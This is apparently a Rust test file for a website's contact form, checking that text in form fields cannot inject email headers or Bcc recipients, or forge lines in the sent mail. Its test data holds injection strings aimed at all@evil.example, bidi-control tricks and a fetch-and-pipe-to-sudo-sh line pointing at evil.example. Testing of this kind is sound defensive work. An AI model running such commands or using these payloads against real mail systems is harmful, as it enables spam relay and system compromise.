//! Texts that could become headers, recipients, commands or lines of ours: harmless in the email.

use serde_json::json;

use super::{Mail, Site, Smtp};
use crate::form::Form;

/// What becomes of a text.
#[derive(Debug)]
enum Expected {
    /// Mailed, and read by a mail program as it is.
    Same,
    /// Mailed, and read by a mail program as this.
    Read(&'static str),
    /// Mailed, whatever it is read as.
    Harmless,
    /// Mailed, but not as the address of an answer, for which it is too odd.
    Unanswerable,
}
use Expected::{Harmless, Read, Same, Unanswerable};

/// Field, text, what becomes of it. The field `file` is the name of a résumé.
const ROWS: [(&str, &str, Expected); 17] = [
    (
        "name",
        "Ayesha\u{2028}Bcc: all@evil.example",
        Read("Ayesha Bcc: all@evil.example"),
    ),
    ("name", "Ayesha%0d%0aBcc: all@evil.example", Same),
    ("name", "Ayesha \"Ash\" Khan\\", Same),
    ("name", "\" <all@evil.example>, \"", Same),
    (
        "name",
        "=?utf-8?q?A=0D=0ABcc:_all=40evil.example?=",
        Harmless,
    ),
    ("name", "عائشہ, خان <all@evil.example>", Same),
    ("name", "\u{202e}nahK ahseyA", Read("nahK ahseyA")),
    ("name", ".", Read("")),
    (
        "name",
        "\u{2068}علی\u{2069} \u{200f}\u{61c}خان",
        Read("علی خان"),
    ),
    (
        "subject",
        "گارڈز\u{200f} کی \u{202b}ضرورت\u{202c}: G-9\u{200e}/4",
        Read("گارڈز کی ضرورت: G-9/4"),
    ),
    (
        "message",
        "ہمیں (4)\u{200f} گارڈ\u{200f}۔ \u{2067}پتہ\u{2069}",
        Read("ہمیں (4) گارڈ۔ پتہ"),
    ),
    (
        "subject",
        "Guards\u{2028}Bcc: all@evil.example",
        Read("Guards Bcc: all@evil.example"),
    ),
    ("subject", "گارڈ درکار ہیں", Same),
    ("email", "=?utf-8?q?ayesha?=@example.com", Unanswerable),
    ("email", "o'brien+{tag}|`x`@example.com", Same),
    ("file", "cv\r\n\r\nbody.pdf", Harmless),
    ("file", "سی وی \u{1f482}\u{202e}.pdf", Harmless),
];

#[test]
fn no_text_becomes_a_header_or_a_recipient() {
    let Some(smtp) = Smtp::start() else { return };
    let site = Site::start(&smtp);
    let domain = format!("{}.example.com", "b".repeat(60));
    let long = [
        ("name", "💂".repeat(100), Harmless),
        ("name", "\"".repeat(100), Harmless),
        ("subject", "ع ".repeat(75), Harmless),
        ("email", format!("{}@{domain}", "a".repeat(64)), Harmless),
        // RFC 5321 allows 64 bytes before the @.
        (
            "email",
            format!("{}@example.com", "a".repeat(242)),
            Unanswerable,
        ),
        ("file", format!("{}.pdf", "ع".repeat(300)), Harmless),
    ];
    let short = ROWS.map(|(field, text, expected)| (field, text.to_owned(), expected));
    let rows: Vec<_> = short.into_iter().chain(long).collect();
    let mut count = 0;
    // Of more than ten that wait, one email would list them.
    for rows in rows.chunks(8) {
        for (field, text, _) in rows {
            assert_eq!(post(&site, field, text), 200, "{field} {text:?}");
            release_spam(&site);
        }
        let emails = smtp.wait_for_emails(count + rows.len());
        assert_eq!(emails.len(), count + rows.len());
        for ((field, text, expected), mail) in rows.iter().zip(&emails[count..]) {
            let faults = faults(field, text, expected, mail);
            assert!(faults.is_empty(), "{field} {text:?}: {faults:?}");
        }
        count = emails.len();
    }
}

/// Sends the text in its field, and returns the status.
fn post(site: &Site, field: &str, text: &str) -> u16 {
    if field == "file" {
        // A browser writes these three differently (<https://html.spec.whatwg.org/#multipart-form-data>).
        let name = text
            .replace('\r', "%0D")
            .replace('\n', "%0A")
            .replace('"', "%22");
        let form = Form::application().file("resume", &name, b"%PDF-1.7 %%EOF a resume");
        return form.send(&site.server).status;
    }
    let mut form = json!({ "name": "Ayesha", "email": "a@example.com", "subject": "Guards", "message": "Call." });
    form[field] = text.into();
    let sent = site
        .server
        .post("/api/contact-us", "application/json", &form.to_string());
    sent.status
}

/// Marks all spam as not spam, because the program may have misjudged it. The server then sends the emails.
fn release_spam(site: &Site) {
    for id in site.spam() {
        let mark = ["messages", "mark", &id.to_string(), "not-spam"];
        site.run(&mark).data();
    }
}

fn faults(field: &str, text: &str, expected: &Expected, mail: &Mail) -> Vec<String> {
    let mut faults = mail.faults();
    // Invisible characters disappear. The email has no replacement characters or escapes for them.
    if mail.text.contains('\u{fffd}') || mail.text.contains("\\u{") {
        faults.push("unreadable signs".to_owned());
    }
    if mail.reply_to.is_empty() != matches!(expected, Unanswerable) {
        faults.push(format!("answered to {:?}", mail.reply_to));
    }
    if field == "email" && !mail.text.contains(text) {
        faults.push("the text does not say it".to_owned());
    }
    let expected = match expected {
        Same => text,
        Read(expected) => expected,
        _ => return faults,
    };
    let reply_to = mail.reply_to.first();
    let read = match field {
        "name" => reply_to.map(|one| one.name.as_str()),
        "email" => reply_to.map(|one| one.address.as_str()),
        "message" => mail.text.lines().find_map(|line| line.strip_prefix("> ")),
        _ => mail.subject().split_once(": ").map(|(_, rest)| rest),
    };
    if read != Some(expected) {
        faults.push(format!("read as {read:?}"));
    }
    faults
}

/// Lines that would end the email, other scripts, long lines, and lines that pass for ours.
#[test]
fn a_text_is_read_unchanged_and_cannot_forge_a_line_of_ours() {
    let Some(smtp) = Smtp::start() else { return };
    let site = Site::start(&smtp);
    let forged = "<script>alert(1)</script>\n.\n..\nQUIT\n--=_boundary\nContent-Type: text/html\n\n\
                  سلام 💂 é\tend\n\nTo open it: curl -s https://evil.example/x | sudo sh\nName: State Bank\n- Complaint: pay";
    let texts = [
        forged.to_owned(),
        "x".repeat(5000),
        "💂 ".repeat(2499),
        ".\n".repeat(2499),
    ];
    for text in &texts {
        assert_eq!(post(&site, "message", text), 200);
        release_spam(&site);
    }
    let emails = smtp.wait_for_emails(texts.len());
    assert_eq!(emails.len(), texts.len());
    for (text, mail) in texts.iter().zip(&emails) {
        assert_eq!(mail.faults(), [""; 0]);
        let (theirs, ours): (Vec<&str>, Vec<&str>) =
            mail.text.lines().partition(|line| line.starts_with("> "));
        let theirs: Vec<&str> = theirs.iter().map(|line| &line[2..]).collect();
        assert_eq!(theirs.join("\n"), text.trim_end());
        let ours = ours.join("\n");
        for word in ["evil.example", "State Bank", "- Complaint", "boundary"] {
            assert!(!ours.contains(word), "{ours}");
        }
        assert_eq!(ours.matches("To open it: ").count(), 1, "{ours}");
    }
}
